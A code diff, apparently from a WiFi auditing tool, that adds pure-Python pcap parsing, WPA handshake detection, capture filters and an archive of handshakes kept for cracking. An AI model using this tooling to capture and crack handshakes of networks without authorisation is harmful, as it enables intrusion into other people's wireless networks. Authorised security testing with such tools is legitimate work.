+        found = [os.path.join(self.directory, filename) for filename in sorted(os.listdir(self.directory))
+                 if filename not in self.existing and filename.startswith(self.AIREPLAY_PREFIXES)
+                 and filename.lower().endswith(suffix)]
+        for filename in found:
+            self.add(filename)
+        return found
+
+    def clean(self):
+        """
+            Removes every registered file and the packets and keystreams aireplay-ng wrote.
+            Files of other programs in the temp folder (a shared capture) are left alone.
+        """
+        self.outputs(('.cap', '.xor'))
+        for filename in self.files:
+            remove_file(filename)
+        self.files = set()
 
 
 def remove_file(filename):
@@ -1747,13 +2531,13 @@ def program_exists(program):
     """
 
     proc = Popen(['which', program], stdout=PIPE, stderr=PIPE)
-    txt = proc.communicate()
+    txt = [output.decode('utf-8', 'replace') for output in proc.communicate()]
     if txt[0].strip() == '' and txt[1].strip() == '':
         return False
     if txt[0].strip() != '' and txt[1].strip() == '':
         return True
 
-    return not (txt[1].strip() == '' or txt[1].find(bytes('no %s in' % program, 'utf-8')) != -1)
+    return not (txt[1].strip() == '' or txt[1].find('no %s in' % program) != -1)
 
 def sec_to_hms(sec):
     """
@@ -1871,20 +2655,11 @@ def get_essid_from_cap(bssid, capfile):
         Attempts to get ESSID from cap file using BSSID as reference.
         Returns '' if not found.
     """
-    if not program_exists('tshark'): return ''
-
-    cmd = ['tshark',
-           '-r', capfile,
-           '-R', 'wlan.fc.type_subtype == 0x05 && wlan.sa == %s' % bssid,
-           '-2', # -R is deprecated and requires -2
-           '-n']
-    proc = Popen(cmd, stdout=PIPE, stderr=DN)
-    proc.wait()
-    for line in proc.communicate()[0].split('\n'):
-        if line.find('SSID=') != -1:
-            essid = line[line.find('SSID=') + 5:]
-            print(GR + ' [+]' + W + ' guessed essid: %s' % (G + essid + W))
-            return essid
+    index = capfile_index(capfile)
+    essid = index['beacons'].get(bssid.lower(), [0, ''])[1] if index else ''
+    if essid.strip('\x00') != '':
+        print(GR + ' [+]' + W + ' guessed essid: %s' % (G + essid + W))
+        return essid
     print(R + ' [!]' + O + ' unable to guess essid!' + W)
     return ''
 
@@ -1892,114 +2667,1119 @@ def get_essid_from_cap(bssid, capfile):
 def get_bssid_from_cap(essid, capfile):
     """
         Returns first BSSID of access point found in cap file.
+        Prefers the access point named 'essid', then the first one with EAPOL frames.
         This is not accurate at all, but it's a good guess.
         Returns '' if not found.
     """
-    global RUN_CONFIG
-
-    if not program_exists('tshark'): return ''
+    index = capfile_index(capfile)
+    if index is None: return ''
 
     # Attempt to get BSSID based on ESSID
     if essid != '':
-        cmd = ['tshark',
-               '-r', capfile,
-               '-R', 'wlan_mgt.ssid == "%s" && wlan.fc.type_subtype == 0x05' % (essid),
-               '-2', # -R is deprecated and requires -2
-               '-n',  # Do not resolve MAC vendor names
-               '-T', 'fields',  # Only display certain fields
-               '-e', 'wlan.sa']  # souce MAC address
-        proc = Popen(cmd, stdout=PIPE, stderr=DN)
-        proc.wait()
-        bssid = proc.communicate()[0].split('\n')[0]
-        if bssid != '': return bssid
-
-    cmd = ['tshark',
-           '-r', capfile,
-           '-R', 'eapol',
-           '-2', # -R is deprecated and requires -2
-           '-n']
-    proc = Popen(cmd, stdout=PIPE, stderr=DN)
-    proc.wait()
-    for line in proc.communicate()[0].split('\n'):
-        if line.endswith('Key (msg 1/4)') or line.endswith('Key (msg 3/4)'):
-            while line.startswith(' ') or line.startswith('\t'): line = line[1:]
-            line = line.replace('\t', ' ')
-            while line.find('  ') != -1: line = line.replace('  ', ' ')
-            return line.split(' ')[2]
-        elif line.endswith('Key (msg 2/4)') or line.endswith('Key (msg 4/4)'):
-            while line.startswith(' ') or line.startswith('\t'): line = line[1:]
-            line = line.replace('\t', ' ')
-            while line.find('  ') != -1: line = line.replace('  ', ' ')
-            return line.split(' ')[4]
+        for (bssid, (_, name)) in index['beacons'].items():
+            if name == essid: return bssid.upper()
+
+    for key in index['keys']:
+        return key[0].upper()
     return ''
 
 
-def attack_interrupted_prompt():
+##########################
+# CAPTURE FILE FUNCTIONS #
+##########################
+
+# Link-layer types found in .cap files written by airodump-ng, tshark, dumpcap, etc.
+DLT_IEEE802_11 = 105  # Plain 802.11 frames
+DLT_PRISM_HEADER = 119
+DLT_IEEE802_11_RADIO = 127  # Radiotap header
+DLT_IEEE802_11_RADIO_AVS = 163
+DLT_PPI = 192
+
+EAPOL_LLC_HEADER = b'\xaa\xaa\x03\x00\x00\x00\x88\x8e'  # LLC/SNAP header carrying EtherType 0x888E
+
+
+class PcapReader:
     """
-        Promps user to decide if they want to exit,
-        skip to cracking WPA handshakes,
-        or continue attacking the remaining targets (if applicable).
-        returns True if user chose to exit complete, False otherwise
+        Reads the frames of a pcap or pcapng file.
+        Remembers where it stopped, so a capture which is still being written
+        (e.g. by airodump-ng) can be followed without re-reading it from the start.
     """
-    global RUN_CONFIG
-    should_we_exit = False
-    # If there are more targets to attack, ask what to do next
-    if RUN_CONFIG.TARGETS_REMAINING > 0:
-        options = ''
-        print(GR + "\n [+] %s%d%s target%s remain%s" % (G, RUN_CONFIG.TARGETS_REMAINING, W,
-                                                        '' if RUN_CONFIG.TARGETS_REMAINING == 1 else 's',
-                                                        's' if RUN_CONFIG.TARGETS_REMAINING == 1 else ''))
-        print(GR + " [+]" + W + " What do you want to do?")
-        options += G + 'c' + W
-        print(G + "     [c]ontinue" + W + " Attacking targets")
 
-        if len(RUN_CONFIG.WPA_CAPS_TO_CRACK) > 0:
-            options += W + ', ' + O + 's' + W
-            print(O + "     [s]kip" + W + " to cracking WPA cap files")
-        options += W + ', or ' + R + 'e' + W
-        print(R + "     [e]xit" + W + " completely")
-        ri = ''
-        while ri != 'c' and ri != 's' and ri != 'e':
-            ri = input(GR + ' [+]' + W + ' Please make a selection (%s): ' % options)
+    def __init__(self, filename):
+        self.filename = filename
+        self.offset = 0  # Offset of the next unread record
+        self.endian = '<'
+        self.nanoseconds = False
+        self.pcapng = False
+        self.linktypes = []  # Link type of each interface (pcap files have exactly one)
 
-        if ri == 's':
-            RUN_CONFIG.TARGETS_REMAINING = -1  # Tells start() to ignore other targets, skip to cracking
-        elif ri == 'e':
-            should_we_exit = True
-    return should_we_exit
+    def read(self):
+        """
+            Generator; yields (offset, timestamp, linktype, packet) for every complete
+            record added since the last call. A truncated record at the end of the file
+            is left for the next call.
+        """
+        try:
+            with open(self.filename, 'rb') as raw:
+                f = mmap.mmap(raw.fileno(), 0, access=mmap.ACCESS_READ)
+        except (IOError, ValueError):
+            return  # Missing or empty file
+        with f:
+            if self.offset == 0 and not self.read_file_header(f):
+                return
+            f.seek(self.offset)
+            while True:
+                if self.pcapng:
+                    record = self.read_pcapng_block(f)
+                else:
+                    record = self.read_pcap_record(f)
+                if record is None:
+                    return
+                yield record
 
+    def read_at(self, offset):
+        """
+            Returns (timestamp, linktype, packet) of the record at 'offset', or None.
+            The file header must already have been read.
+        """
+        with open(self.filename, 'rb') as f:
+            f.seek(offset)
+            saved_offset = self.offset
+            self.offset = offset
+            try:
+                while True:
+                    record = self.read_pcapng_block(f) if self.pcapng else self.read_pcap_record(f)
+                    if record is None:
+                        return None
+                    if record[0] == offset:
+                        return record[1:]
+            finally:
+                self.offset = saved_offset
+
+    def read_file_header(self, f):
+        """
+            Reads the pcap global header (or pcapng section header).
+            Returns False if the file is too short or not a capture file.
+        """
+        header = f.read(24)
+        if len(header) < 24:
+            return False
+        magic = header[:4]
+        if magic in (b'\xd4\xc3\xb2\xa1', b'\x4d\x3c\xb2\xa1'):
+            self.endian = '<'
+        elif magic in (b'\xa1\xb2\xc3\xd4', b'\xa1\xb2\x3c\x4d'):
+            self.endian = '>'
+        elif magic == b'\x0a\x0d\x0d\x0a':
+            self.pcapng = True
+            return True  # The section header block is handled like any other block
+        else:
+            return False
+        self.nanoseconds = magic in (b'\x4d\x3c\xb2\xa1', b'\xa1\xb2\x3c\x4d')
+        self.linktypes = [struct.unpack(self.endian + 'I', header[20:24])[0] & 0xffff]
+        self.offset = 24
+        return True
 
-#
-# Abstract base class for attacks.
-# Attacks are required to implement the following methods:
-#       RunAttack - Initializes the attack
-#       EndAttack - Cleanly ends the attack
-#
-class Attack(object, metaclass=abc.ABCMeta):
-    @abc.abstractmethod
-    def RunAttack(self):
-        raise NotImplementedError()
+    def read_pcap_record(self, f):
+        header = f.read(16)
+        if len(header) < 16:
+            return None
+        ts_sec, ts_frac, caplen, _ = struct.unpack(self.endian + 'IIII', header)
+        if caplen > 0x40000:
+            return None  # Corrupt record; nothing sensible follows
+        packet = f.read(caplen)
+        if len(packet) < caplen:
+            return None
+        offset = self.offset
+        self.offset += 16 + caplen
+        timestamp = ts_sec + ts_frac / (1e9 if self.nanoseconds else 1e6)
+        return (offset, timestamp, self.linktypes[0], packet)
+
+    def read_pcapng_block(self, f):
+        while True:
+            header = f.read(8)
+            if len(header) < 8:
+                return None
+            if header[:4] == b'\x0a\x0d\x0d\x0a':
+                # Section header block: byte order is set by the magic inside it
+                magic = f.read(4)
+                if len(magic) < 4:
+                    return None
+                self.endian = '<' if magic == b'\x4d\x3c\x2b\x1a' else '>'
+                self.linktypes = []
+                f.seek(-4, os.SEEK_CUR)
+            block_type, block_len = struct.unpack(self.endian + 'II', header)
+            if block_len < 12 or block_len > 0x40000:
+                return None
+            body = f.read(block_len - 8)
+            if len(body) < block_len - 8:
+                return None
+            offset = self.offset
+            self.offset += block_len
+
+            if block_type == 1:  # Interface description block
+                self.linktypes.append(struct.unpack_from(self.endian + 'H', body, 0)[0])
+            elif block_type == 6 and len(body) >= 20:  # Enhanced packet block
+                iface, ts_high, ts_low, caplen = struct.unpack_from(self.endian + 'IIII', body, 0)
+                if iface < len(self.linktypes):
+                    return (offset, ((ts_high << 32) | ts_low) / 1e6, self.linktypes[iface], body[20:20 + caplen])
+            elif block_type == 3 and len(body) >= 4 and len(self.linktypes) > 0:  # Simple packet block
+                caplen = min(struct.unpack_from(self.endian + 'I', body, 0)[0], len(body) - 8)
+                return (offset, 0.0, self.linktypes[0], body[4:4 + caplen])
+
+
+def write_pcap(filename, linktype, records):
+    """
+        Writes a pcap file containing 'records', a list of (timestamp, packet) tuples.
+    """
+    with open(filename, 'wb') as f:
+        f.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 0x40000, linktype))
+        for (timestamp, packet) in records:
+            ts_sec = int(timestamp)
+            ts_usec = int(round((timestamp - ts_sec) * 1e6)) % 1000000
+            f.write(struct.pack('<IIII', ts_sec, ts_usec, len(packet), len(packet)))
+            f.write(packet)
 
-    @abc.abstractmethod
-    def EndAttack(self):
-        raise NotImplementedError()
 
+def dot11_frame(linktype, packet):
+    """
+        Strips the link-layer header (radiotap, PPI, prism, AVS) from a captured packet.
+        Returns the 802.11 frame, or None if the link type is not supported.
+    """
+    if linktype == DLT_IEEE802_11:
+        return packet
+    if linktype == DLT_IEEE802_11_RADIO:
+        if len(packet) < 8:
+            return None
+        header_len, present = struct.unpack_from('<HI', packet, 2)
+        frame = packet[header_len:]
+        # The "flags" field says if the frame ends with an FCS. It follows TSFT (if present).
+        field = 8
+        word = present
+        while word & 0x80000000 and field + 4 <= header_len:
+            word = struct.unpack_from('<I', packet, field)[0]
+            field += 4
+        if present & 0x02:
+            if present & 0x01:
+                field = ((field + 7) & ~7) + 8
+            if field < header_len and packet[field] & 0x10:
+                frame = frame[:-4]
+        return frame
+    if linktype == DLT_PPI:
+        if len(packet) < 8:
+            return None
+        return packet[struct.unpack_from('<H', packet, 2)[0]:]
+    if linktype == DLT_PRISM_HEADER:
+        if len(packet) < 8:
+            return None
+        return packet[struct.unpack_from('<I', packet, 4)[0]:]
+    if linktype == DLT_IEEE802_11_RADIO_AVS:
+        if len(packet) < 8:
+            return None
+        return packet[struct.unpack_from('>I', packet, 4)[0]:]
+    return None
+
+
+def format_mac(raw):
+    return ':'.join('%02x' % b for b in raw)
+
+
+def dot11_header_length(frame):
+    """
+        Returns the length of the 802.11 header of a data frame.
+    """
+    length = 24
+    if frame[1] & 0x03 == 0x03:
+        length += 6  # Fourth address (WDS)
+    if frame[0] & 0x80:
+        length += 2  # QoS control
+        if frame[1] & 0x80:
+            length += 4  # HT control
+    return length
 
-#################
-# WPA FUNCTIONS #
-#################
-class WPAAttack(Attack):
-    def __init__(self, iface, target, clients, config):
+
+def parse_eapol_key(frame, offset):
+    """
+        Parses an 802.11 data frame carrying an EAPOL-Key message of the four-way handshake.
+        Returns an EapolKey, or None if the frame is not a pairwise EAPOL-Key message.
+    """
+    if len(frame) < 24 or (frame[0] & 0x0c) != 0x08 or frame[1] & 0x40:
+        return None  # Not an unprotected data frame
+    start = dot11_header_length(frame)
+    if frame[start:start + 8] != EAPOL_LLC_HEADER:
+        return None
+    eapol = frame[start + 8:]
+    if len(eapol) < 99 or eapol[1] != 3:
+        return None  # Too short, or not an EAPOL-Key packet
+
+    key_info = struct.unpack_from('>H', eapol, 5)[0]
+    if not key_info & 0x0008:
+        return None  # Group key handshake
+    replay_counter = struct.unpack_from('>Q', eapol, 9)[0]
+    nonce = eapol[17:49]
+    mic = eapol[81:97]
+    key_data_len = struct.unpack_from('>H', eapol, 97)[0]
+
+    ack = key_info & 0x0080
+    has_mic = key_info & 0x0100
+    if ack and not has_mic:
+        msg = 1
+    elif ack:
+        msg = 3
+    elif not has_mic:
+        return None
+    elif key_data_len > 0 or (nonce.strip(b'\x00') != b'' and not key_info & 0x0200):
+        msg = 2  # Message 2 carries the SNonce and the client's RSN IE
+    else:
+        msg = 4
+
+    to_ds = frame[1] & 0x01
+    from_ds = frame[1] & 0x02
+    if from_ds and not to_ds:
+        bssid, client = frame[10:16], frame[4:10]
+    elif to_ds and not from_ds:
+        bssid, client = frame[4:10], frame[10:16]
+    elif msg % 2 == 1:
+        bssid, client = frame[10:16], frame[4:10]
+    else:
+        bssid, client = frame[4:10], frame[10:16]
+    return EapolKey(msg, format_mac(bssid), format_mac(client), replay_counter, nonce, mic, offset)
+
+
+def parse_beacon(frame):
+    """
+        Parses an 802.11 beacon or probe response.
+        Returns (bssid, essid), or None if the frame is neither.
+    """
+    if len(frame) < 36 or frame[0] not in (0x80, 0x50):
+        return None
+    essid = ''
+    i = 36  # Tagged parameters follow the 24-byte header and 12 bytes of fixed parameters
+    while i + 2 <= len(frame):
+        tag, length = frame[i], frame[i + 1]
+        if tag == 0:
+            essid = frame[i + 2:i + 2 + length].decode('utf-8', 'replace')
+            break
+        i += 2 + length
+    return (format_mac(frame[16:22]), essid)
+
+
+def handshake_pair(handshake, policy):
+    """
+        Checks the messages of a Handshake against a handshake policy ('strict', '3of4' or 'pair').
+        Returns the list of EapolKeys which satisfy the policy, or an empty list.
+    """
+    m1, m2, m3, m4 = [handshake.messages.get(i) for i in range(1, 5)]
+    if policy == 'pair':
+        # Either pair holds an ANonce, the SNonce and a MIC from the same exchange
+        if m1 and m2 and m1.replay_counter == m2.replay_counter:
+            return [m1, m2]
+        if m2 and m3 and m3.replay_counter == m2.replay_counter + 1:
+            return [m2, m3]
+        return []
+
+    if not (m1 and m2 and m3):
+        return []
+    if m1.replay_counter != m2.replay_counter or m3.replay_counter != m2.replay_counter + 1 or m1.nonce != m3.nonce:
+        return []
+    if policy == '3of4':
+        return [m1, m2, m3]
+    if m4 and m4.replay_counter == m3.replay_counter:
+        return [m1, m2, m3, m4]
+    return []
+
+
+def handshake_fingerprint(handshake):
+    """
+        Returns the SHA-1 (hex) of what cracking a handshake depends on: BSSID, client,
+        ANonce, SNonce and the MIC of message 2. Two captures of the same EAPOL exchange
+        have the same fingerprint, whatever else was captured with them.
+    """
+    m2 = [key for key in handshake.pair if key.msg == 2][0]  # Every policy's pair includes message 2
+    anonce = [key for key in handshake.pair if key.msg != 2][0].nonce
+    sha1 = hashlib.sha1()
+    for part in (handshake.bssid.encode(), handshake.client.encode(), anonce, m2.nonce, m2.mic):
+        sha1.update(part)
+    return sha1.hexdigest()
+
+
+def handshake_capture_filter(bssids):
+    """
+        Returns a capture filter (BPF syntax) that keeps only what is needed to crack the
+        handshakes of the access points in 'bssids': beacons, probe responses and unprotected
+        data frames (EAPOL). Encrypted traffic and frames without a body (null data) are
+        dropped in the kernel.
+    """
+    return '(%s) and ' \
+           '(type mgt subtype beacon or type mgt subtype probe-resp or ' \
+           '(type data and wlan[0] & 0x40 = 0 and wlan[1] & 0x40 = 0))' % \
+           ' or '.join('wlan addr1 %s or wlan addr2 %s or wlan addr3 %s' % (bssid, bssid, bssid) for bssid in bssids)
+
+
+def write_handshake(reader, tracker, handshake, filename):
+    """
+        Writes a minimal pcap file holding one beacon or probe response of the access point
+        and the EAPOL messages of 'handshake' which satisfied the policy.
+        'reader' and 'tracker' must be the ones the handshake was found with.
+        Returns True if the file was written.
+    """
+    offsets = [key.offset for key in handshake.pair]
+    if handshake.bssid in tracker.beacons:
+        offsets.append(tracker.beacons[handshake.bssid][0])
+    linktype = None
+    records = []
+    for offset in sorted(offsets):
+        record = reader.read_at(offset)
+        if record is None:
+            return False
+        (timestamp, record_linktype, packet) = record
+        if linktype is None:
+            linktype = record_linktype
+        elif record_linktype != linktype:
+            continue  # pcapng with several interfaces; a pcap file has a single link type
+        records.append((timestamp, packet))
+    if len(records) == 0:
+        return False
+    write_pcap(filename, linktype, records)
+    return True
+
+
+def strip_capfile(capfile, bssid, policy, output_file):
+    """
+        Writes the handshake of 'bssid' in capfile (checked against 'policy') to output_file,
+        without any other packets. Returns the Handshake, or None if none was found.
+    """
+    (reader, tracker) = indexed_tracker(capfile, policy, [bssid])
+    handshake = tracker.handshake_for(bssid)
+    if handshake is None or not write_handshake(reader, tracker, handshake, output_file):
+        return None
+    return handshake
+
+
+class HandshakeTracker:
+    """
+        Follows the EAPOL-Key messages in a capture and keeps the four-way handshake
+        of every (access point, client) pair, checked against a handshake policy.
+    """
+
+    def __init__(self, policy, bssids=None):
+        self.policy = policy
+        self.bssids = None if bssids is None else set(b.lower() for b in bssids)  # None tracks every AP
+        self.handshakes = {}  # (bssid, client) -> Handshake
+        self.frames = 0  # Number of EAPOL-Key frames seen for the tracked access points
+        self.beacons = {}  # bssid -> (offset, essid) of a beacon or probe response, preferring a visible ESSID
+
+    def feed(self, offset, linktype, packet):
+        """
+            Processes one captured packet.
+            Returns the Handshake if this packet made it satisfy the policy, None otherwise.
+        """
+        frame = dot11_frame(linktype, packet)
+        if frame is None:
+            return None
+        if len(frame) > 0 and frame[0] in (0x80, 0x50):
+            self.feed_beacon(offset, frame)
+            return None
+        key = parse_eapol_key(frame, offset)
+        if key is None:
+            return None
+        return self.feed_key(key)
+
+    def feed_key(self, key):
+        """
+            Processes one EapolKey. Returns the Handshake if it now satisfies the policy, None otherwise.
+        """
+        if self.bssids is not None and key.bssid not in self.bssids:
+            return None
+        self.frames += 1
+        hs = self.handshakes.get((key.bssid, key.client))
+        if hs is None:
+            hs = Handshake(key.bssid, key.client)
+            self.handshakes[(key.bssid, key.client)] = hs
+        if len(hs.pair) > 0:
+            return None  # Keep the first handshake which satisfied the policy
+        hs.messages[key.msg] = key
+        hs.pair = handshake_pair(hs, self.policy)
+        if len(hs.pair) > 0:
+            return hs
+        return None
+
+    def feed_beacon(self, offset, frame):
+        beacon = parse_beacon(frame)
+        if beacon is None or (self.bssids is not None and beacon[0] not in self.bssids):
+            return
+        (bssid, essid) = beacon
+        known = self.beacons.get(bssid)
+        if known is None or (known[1].strip('\x00') == '' and essid.strip('\x00') != ''):
+            self.beacons[bssid] = (offset, essid)
+
+    def feed_file(self, reader):
+        """
+            Feeds every new record of a PcapReader to the tracker.
+        """
+        for (offset, _, linktype, packet) in reader.read():
+            self.feed(offset, linktype, packet)
+
+    def handshake_for(self, bssid):
+        """
+            Returns the first Handshake with 'bssid' which satisfied the policy, or None.
+        """
+        for hs in self.handshakes.values():
+            if hs.bssid == bssid.lower() and len(hs.pair) > 0:
+                return hs
+        return None
+
+
+CAPFILE_INDEX_VERSION = 2  # Bumped whenever the layout of '<capfile>.idx' changes
+
+
+def load_capfile_index(capfile):
+    """
+        Returns the index cached in '<capfile>.idx', or None if there is none or if it
+        is out of date (capfile's size or modification time changed since it was written).
+    """
+    try:
+        st = os.stat(capfile)
+        with open(capfile + '.idx', 'r') as f:
+            index = json.load(f)
+    except (OSError, IOError, ValueError):
+        return None
+    if index.get('version') != CAPFILE_INDEX_VERSION or index.get('stamp') != [st.st_size, st.st_mtime_ns]:
+        return None
+    return index
+
+
+def capfile_index(capfile):
+    """
+        Returns the index of a capture file, built in a single pass and cached in '<capfile>.idx':
+            beacons: bssid -> [offset, essid] of a beacon or probe response
+            keys:    every EAPOL-Key message as [bssid, client, msg, offset, replay counter, nonce, mic]
+        plus the reader state needed to seek straight to those records (see indexed_tracker()).
+        Returns None if capfile can't be read.
+    """
+    index = load_capfile_index(capfile)
+    if index is not None:
+        return index
+    try:
+        st = os.stat(capfile)
+    except OSError:
+        return None
+
+    reader = PcapReader(capfile)
+    tracker = HandshakeTracker('strict')
+    keys = []
+    for (offset, _, linktype, packet) in reader.read():
+        frame = dot11_frame(linktype, packet)
+        if frame is None:
+            continue
+        if len(frame) > 0 and frame[0] in (0x80, 0x50):
+            tracker.feed_beacon(offset, frame)
+            continue
+        key = parse_eapol_key(frame, offset)
+        if key is not None:
+            keys.append([key.bssid, key.client, key.msg, key.offset, key.replay_counter,
+                         key.nonce.hex(), key.mic.hex()])
+
+    index = {'version': CAPFILE_INDEX_VERSION,
+             'stamp': [st.st_size, st.st_mtime_ns],
+             'reader': {'endian': reader.endian, 'nanoseconds': reader.nanoseconds,
+                        'pcapng': reader.pcapng, 'linktypes': reader.linktypes},
+             'beacons': dict((bssid, list(beacon)) for (bssid, beacon) in tracker.beacons.items()),
+             'keys': keys}
+    try:
+        with open(capfile + '.idx', 'w') as f:
+            json.dump(index, f)
+    except IOError:
+        pass  # Read-only directory; the index is just not cached
+    return index
+
+
+def indexed_tracker(capfile, policy, bssids=None):
+    """
+        Returns (PcapReader, HandshakeTracker) for capfile, like feeding the whole file to a tracker.
+        If capfile has an up-to-date index, the tracker is filled from it instead and the reader
+        is only positioned for read_at(), so nothing but the handshake frames is ever read.
+    """
+    reader = PcapReader(capfile)
+    tracker = HandshakeTracker(policy, bssids)
+    index = load_capfile_index(capfile)
+    if index is None:
+        tracker.feed_file(reader)
+        return (reader, tracker)
+
+    for (name, value) in index['reader'].items():
+        setattr(reader, name, value)
+    reader.offset = index['stamp'][0]  # Everything was read
+    for (bssid, (offset, essid)) in index['beacons'].items():
+        if tracker.bssids is None or bssid in tracker.bssids:
+            tracker.beacons[bssid] = (offset, essid)
+    for (bssid, client, msg, offset, replay_counter, nonce, mic) in index['keys']:
+        tracker.feed_key(EapolKey(msg, bssid, client, replay_counter, bytes.fromhex(nonce), bytes.fromhex(mic), offset))
+    return (reader, tracker)
+
+
+def handshake_filename(ssid, bssid, index=0):
+    """
+        Returns the path a handshake of ssid/bssid is saved as: <SSID>_aa-bb-cc-dd-ee-ff[_index].cap
+    """
+    global RUN_CONFIG
+    return RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep + re.sub(r'[^a-zA-Z0-9]', '', ssid) \
+           + '_' + bssid.replace(':', '-') + ('_' + str(index) if index > 0 else '') + '.cap'
+
+
+def new_handshake_filename(ssid, bssid):
+    """
+        Returns the first handshake filename for ssid/bssid which does not exist yet.
+    """
+    return handshake_catalog().new_filename(ssid, bssid)
+
+
+def handshake_catalog():
+    """
+        Returns the HandshakeCatalog of the handshake directory, scanning it on first use.
+    """
+    global RUN_CONFIG
+    if RUN_CONFIG.WPA_HANDSHAKE_CATALOG is None:
+        RUN_CONFIG.WPA_HANDSHAKE_CATALOG = HandshakeCatalog(RUN_CONFIG.WPA_HANDSHAKE_DIR)
+    return RUN_CONFIG.WPA_HANDSHAKE_CATALOG
+
+
+class HandshakeCatalog:
+    """
+        The handshake files in the handshake directory, listed once and then kept up to date
+        as handshakes are saved or removed, so targets never have to be probed on disk.
+        Files are recognized by their name: <SSID>_aa-bb-cc-dd-ee-ff[_index].cap
+
+        Saved handshakes are archived by content: the file is stored once as
+        by-hash/<fingerprint>.cap and its readable name is a hard link to it.
+        manifest.csv maps readable names to fingerprints, so a new capture of a
+        handshake we already have is recognized and not saved (or cracked) again.
+    """
+    FILENAME = re.compile(r'^(.*)_([0-9a-fA-F]{2}(?:-[0-9a-fA-F]{2}){5})(?:_\d+)?\.cap$')
+
+    def __init__(self, directory):
+        self.directory = directory
+        self.filenames = set()  # Every file in the directory, handshake or not
+        self.by_bssid = {}  # BSSID (upper case) -> list of CapFiles, oldest first
+        self.fingerprints = {}  # Fingerprint -> CapFile
+        self.fingerprinted = set()  # Filenames whose fingerprint is known
+        self.manifest = []  # Rows of manifest.csv: name, fingerprint, bssid, client, essid, time saved
+        try:
+            names = os.listdir(directory)
+        except OSError:
+            names = []  # Created when the first handshake is saved
+        for name in names:
+            path = directory + os.sep + name
+            self.filenames.add(path)
+            match = self.FILENAME.match(name)
+            if match is None:
+                continue
+            try:
+                mtime = os.path.getmtime(path)
+            except OSError:
+                continue
+            self.add(path, match.group(1), match.group(2).replace('-', ':'), mtime=mtime)
+        for capfiles in self.by_bssid.values():
+            capfiles.sort(key=lambda capfile: capfile.mtime)
+
+        try:
+            with open(directory + os.sep + 'manifest.csv', 'r', newline='') as csvfile:
+                self.manifest = [row for row in csv.reader(csvfile) if len(row) == 6]
+        except IOError:
+            pass
+        for row in self.manifest:
+            for capfile in self.handshakes_for(row[2]):
+                if capfile.filename == directory + os.sep + row[0]:
+                    capfile.ssid = row[4]  # The filename only holds a sanitized one
+                    self.fingerprints[row[1]] = capfile
+                    self.fingerprinted.add(capfile.filename)
+
+    def add(self, filename, ssid, bssid, valid=None, mtime=None):
+        """
+            Records a handshake file. Returns its CapFile.
+        """
+        capfile = CapFile(filename, ssid, bssid.upper())
+        capfile.mtime = time.time() if mtime is None else mtime
+        capfile.valid = valid
+        self.filenames.add(filename)
+        self.by_bssid.setdefault(capfile.bssid, []).append(capfile)
+        return capfile
+
+    def remove(self, capfile):
+        """
+            Deletes a handshake file (and its index and archived copy) and forgets it.
+        """
+        remove_file(capfile.filename)
+        remove_file(capfile.filename + '.idx')
+        self.filenames.discard(capfile.filename)
+        self.by_bssid[capfile.bssid].remove(capfile)
+        for (fingerprint, archived) in list(self.fingerprints.items()):
+            if archived is capfile:
+                del self.fingerprints[fingerprint]
+                remove_file(self.object_filename(fingerprint))
+        name = os.path.basename(capfile.filename)
+        if any(row[0] == name for row in self.manifest):
+            self.manifest = [row for row in self.manifest if row[0] != name]
+            self.write_manifest(self.manifest, 'w')
+
+    def object_filename(self, fingerprint):
+        return self.directory + os.sep + 'by-hash' + os.sep + fingerprint + '.cap'
+
+    def write_manifest(self, rows, mode):
+        try:
+            with open(self.directory + os.sep + 'manifest.csv', mode, newline='') as csvfile:
+                csv.writer(csvfile, delimiter=',', quotechar='"', quoting=csv.QUOTE_MINIMAL).writerows(rows)
+        except IOError:
+            print(R + ' [!]' + O + ' unable to write %s' % (self.directory + os.sep + 'manifest.csv') + W)
+
+    def duplicate_of(self, handshake, policy):
+        """
+            Returns the CapFile already holding 'handshake' (same fingerprint), or None.
+            Handshakes saved before the archive existed are fingerprinted the first time
+            a handshake of their access point is looked up.
+        """
+        for capfile in self.handshakes_for(handshake.bssid):
+            if capfile.filename in self.fingerprinted:
+                continue
+            self.fingerprinted.add(capfile.filename)
+            (_, tracker) = indexed_tracker(capfile.filename, policy, [capfile.bssid])
+            saved = tracker.handshake_for(capfile.bssid)
+            if saved is not None:
+                self.fingerprints.setdefault(handshake_fingerprint(saved), capfile)
+        return self.fingerprints.get(handshake_fingerprint(handshake))
+
+    def archive(self, filename, ssid, handshake):
+        """
+            Moves a newly saved handshake file into the archive, leaving 'filename' as a hard link
+            to it (a copy where the filesystem has no hard links), indexes it and records it.
+            Returns its CapFile.
+        """
+        fingerprint = handshake_fingerprint(handshake)
+        object_file = self.object_filename(fingerprint)
+        try:
+            os.makedirs(os.path.dirname(object_file), exist_ok=True)
+            rename(filename, object_file)
+            try:
+                os.link(object_file, filename)
+            except OSError:
+                copy_file(object_file, filename)
+        except (IOError, OSError):
+            print(R + ' [!]' + O + ' unable to archive %s' % (filename) + W)
+        capfile_index(filename)  # Later checks, strips and guesses seek straight to the frames
+
+        capfile = self.add(filename, ssid, handshake.bssid, valid=True)
+        self.fingerprints[fingerprint] = capfile
+        self.fingerprinted.add(filename)
+        row = [os.path.basename(filename), fingerprint, capfile.bssid, handshake.client, ssid,
+               time.strftime('%Y-%m-%d %H:%M:%S')]
+        self.manifest.append(row)
+        self.write_manifest([row], 'a')
+        return capfile
+
+    def handshakes_for(self, bssid):
+        """
+            Returns the CapFiles saved for 'bssid', oldest first.
+        """
+        return self.by_bssid.get(bssid.upper(), [])
+
+    def new_filename(self, ssid, bssid):
+        """
+            Returns the first handshake filename for ssid/bssid which is not taken yet.
+        """
+        save_index = 0
+        save_as = handshake_filename(ssid, bssid)
+        while save_as in self.filenames:
+            save_index += 1
+            save_as = handshake_filename(ssid, bssid, save_index)
+        return save_as
+
+    def crackable(self, policy):
+        """
+            Returns the CapFiles which hold a handshake satisfying 'policy', checking (and
+            remembering) the files which were not checked yet. The file name only holds
+            the sanitized SSID, so the real one is read from the capture when it's there.
+        """
+        result = []
+        for capfiles in self.by_bssid.values():
+            for capfile in capfiles:
+                if capfile.valid is None:
+                    (reader, tracker) = indexed_tracker(capfile.filename, policy, [capfile.bssid])
+                    capfile.valid = tracker.handshake_for(capfile.bssid) is not None
+                    if capfile.bssid.lower() in tracker.beacons:
+                        capfile.ssid = tracker.beacons[capfile.bssid.lower()][1]
+                if capfile.valid:
+                    result.append(capfile)
+        return result
+
+
+def expand_capfiles(pattern):
+    """
